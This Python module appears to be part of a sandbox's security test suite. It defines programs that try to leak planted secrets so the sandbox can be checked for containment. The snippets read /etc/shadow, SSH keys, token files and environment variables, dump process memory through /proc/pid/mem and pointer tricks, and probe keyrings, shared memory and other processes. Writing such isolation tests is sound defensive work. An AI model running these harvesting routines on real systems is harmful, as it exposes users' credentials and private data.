"""Attacks on secrets: the node's environment, files, keys and memory, and what other callers run.

The planted ones all look like `sentinel-kind-0123456789abcdef`; none of them may appear in any output.
"""

from __future__ import annotations

from cleaner_sandbox.check.attack import OK, SYSCALL, TIMEOUT, Attack, AttackClass
from cleaner_sandbox.check.attacks.escape_processes import FIND, MEMORY

_OWN_MEMORY = (
    MEMORY
    + """
try:
    file = open("/proc/self/mem", "rb", buffering=0)
except OSError:
    sys.exit()
for start, size in areas("self"):
    try:
        file.seek(start)
        tell(file.read(size))
    except (OSError, ValueError):
        pass
"""
)

_OWN_MEMORY_BY_POINTER = """
# Without /proc/self/mem: write() copies from any address and fails politely.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
read_end, write_end = os.pipe()
for anchor in {place & ~0xFFFFF for place in (id(object), id([]), id(sys.path), ctypes.addressof(ctypes.c_int()))}:
    for page in range(anchor - (8 << 20), anchor + (8 << 20), 4096):
        if libc.write(write_end, ctypes.c_void_p(page), ctypes.c_size_t(4096)) == 4096:
            tell(os.read(read_end, 4096))
"""

OBJECTS = """
import gc
def walk(frame):
    while frame:
        yield frame.f_locals
        yield frame.f_globals
        frame = frame.f_back
modules = [vars(module) for module in list(sys.modules.values()) if hasattr(module, "__dict__")]
for space in [*walk(sys._getframe()), *modules, *gc.get_objects()]:
    try:
        if isinstance(space, dict):
            space = list(space.values())
        for value in space if isinstance(space, (list, tuple, set)) else ():
            if isinstance(value, (str, bytes)):
                tell(value.encode(errors="replace") if isinstance(value, str) else value)
    except Exception:
        pass
"""

_PROGRAMS = {
    "environment": 'tell("\\n".join(os.environ.values()).encode(errors="replace"))',
    "environment_block": 'tell(read("/proc/self/environ"))',
    "environment_pointer": """
import ctypes
pointer = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for index in range(1000):
    if not pointer[index]:
        break
    tell(pointer[index])
""",
    "environment_of_child": """
import subprocess
try:
    tell(subprocess.run(["/usr/bin/env"], capture_output=True).stdout)
except OSError:
    pass
""",
    "home": """
import pwd
homes = {os.path.expanduser("~"), os.environ.get("HOME", "/"), "/root", "@HOME@"}
try:
    homes |= {entry.pw_dir for entry in pwd.getpwall()}
except OSError:
    pass
for home in homes:
    for folder, inner, names in os.walk(home):
        if folder != home:
            inner.clear()
        for name in names[:200]:
            if "token" in name or "id_" in name or "private" in name:
                tell(read(os.path.join(folder, name)))
""",
    "token_file": 'tell(read("@HOME@/token"))',
    "private_file": 'tell(read("@HOME@/private"))',
    "ssh_key": 'tell(read("@HOME@/.ssh/id_ed25519"))',
    "tmp_of_host": """
for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    for place, _, names in os.walk(folder):
        for name in names[:500]:
            tell(read(os.path.join(place, name)))
""",
    "password_file": """
if read("/etc/shadow"):
    win("/etc/shadow")
""",
    "host_name": """
if os.uname().nodename == "@HOST@":
    win("which machine this is")
""",
    "service_source": """
for folder in sys.path:
    for name in ("cleaner_sandbox/node/node.py", "cleaner_sandbox/cli/__init__.py"):
        if read(os.path.join(folder, name)):
            win("the service's own source")
if read("@PACKAGE@/node/node.py"):
    win("by its path")
""",
    "service_import": """
try:
    import cleaner_sandbox.node.node
    win("the service's own code")
except ImportError:
    pass
""",
    "keyring_of_service": SYSCALL
    + """
for ring in (-3, -4, -5, -1, -2):
    key, _ = syscall(250, 10, ring, b"user", b"cleaner-check", 0)
    if key > 0:
        buffer = ctypes.create_string_buffer(256)
        syscall(250, 11, key, buffer, 256)
        tell(buffer.raw)
""",
    "sysv_of_service": SYSCALL
    + """
libc.shmat.restype = ctypes.c_void_p
for shm in {libc.shmget(@SYSV@, 0, 0), *range(64)}:
    address = libc.shmat(shm, None, 0o10000)
    if address not in (None, ctypes.c_void_p(-1).value):
        tell(ctypes.string_at(address, 64))
""",
    "posix_shm_of_service": 'tell(read("/dev/shm/@SHM@"))',
    "own_memory": _OWN_MEMORY,
    "own_memory_by_pointer": _OWN_MEMORY_BY_POINTER,
    "own_objects": OBJECTS,
    "own_request": """
# The request's own secrets: tokens, caller, request id.
for text in (read("/proc/self/cmdline"), read("/proc/self/comm"), repr(sys.argv + sys.orig_argv).encode()):
    tell(text)
    if b"@REQUEST@" in text:
        win("request id")
""",
    "traceback_of_harness": """
frames = []
frame = sys._getframe().f_back
while frame:
    frames.append(frame)
    frame = frame.f_back
for frame in frames:
    for value in list(frame.f_locals.values()):
        tell(repr(value).encode(errors="replace"))
""",
}

OTHERS_PROGRAM = "secret = '@OTHER@'\nopen('mine', 'w').write(secret)\nimport sys\nsys.stdin.read()\nprint(len(secret))"
_OTHERS_LONG = """
secret = '@OTHER@'
import os, time
open('mine', 'w').write(secret)
for folder in ('/tmp', '/dev/shm'):
    try:
        open(folder + '/mine-%d' % os.getpid(), 'w').write(secret)
    except OSError:
        pass
time.sleep(1.2)
"""

SCAN_PROCESSES = (
    MEMORY
    + """
time.sleep(0.2)
for pid in pids():
    for name in ("environ", "cmdline", "cwd/mine", "root/tmp/mine", "fd/0", "fd/3", "fd/4"):
        if not name.startswith("fd") or os.path.isfile("/proc/%d/%s" % (pid, name)):
            tell(read("/proc/%d/%s" % (pid, name)))
    try:
        with open("/proc/%d/mem" % pid, "rb", buffering=0) as file:
            for start, size in areas(pid):
                file.seek(start)
                tell(file.read(size))
    except (OSError, ValueError):
        pass
"""
)

SCAN_FILES = """
time.sleep(0.2)
for top in ("/tmp", "/var/tmp", "/dev/shm", "/run", "..", "../..", os.path.expanduser("~")):
    for place, folders, names in os.walk(top):
        if place[len(top):].count("/") > 2 or place.startswith(("../../usr", "../../proc", "../../sys")):
            folders.clear()
        for name in names:
            if name.startswith("mine"):
                tell(read(os.path.join(place, name)))
"""

ATTACKS: tuple[Attack, ...] = (
    *(Attack(f"secret_{name}", AttackClass.SECRETS, FIND + text) for name, text in _PROGRAMS.items()),
    Attack("earlier_run_in_memory", AttackClass.SECRETS, FIND + _OWN_MEMORY, before=OTHERS_PROGRAM),
    Attack("earlier_run_by_pointer", AttackClass.SECRETS, FIND + _OWN_MEMORY_BY_POINTER, before=OTHERS_PROGRAM),
    Attack("earlier_run_in_objects", AttackClass.SECRETS, FIND + OBJECTS, before=OTHERS_PROGRAM),
    Attack("earlier_run_in_files", AttackClass.SECRETS, FIND + SCAN_FILES, before=_OTHERS_LONG, wall=8),
    Attack(
        "other_run_in_processes", AttackClass.SECRETS, FIND + SCAN_PROCESSES, beside=_OTHERS_LONG, right=OK | TIMEOUT
    ),
    Attack("other_run_in_files", AttackClass.SECRETS, FIND + SCAN_FILES, beside=_OTHERS_LONG),
)
